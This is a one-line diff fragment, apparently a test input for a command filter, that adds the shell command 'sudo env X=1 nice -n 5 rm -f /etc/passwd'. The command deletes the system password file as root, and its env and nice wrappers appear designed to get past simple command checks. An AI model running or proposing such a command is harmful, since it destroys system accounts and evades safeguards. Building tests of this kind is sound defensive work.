@@ -1,0 +1,1 @@
+sudo env X=1 nice -n 5 rm -f /etc/passwd
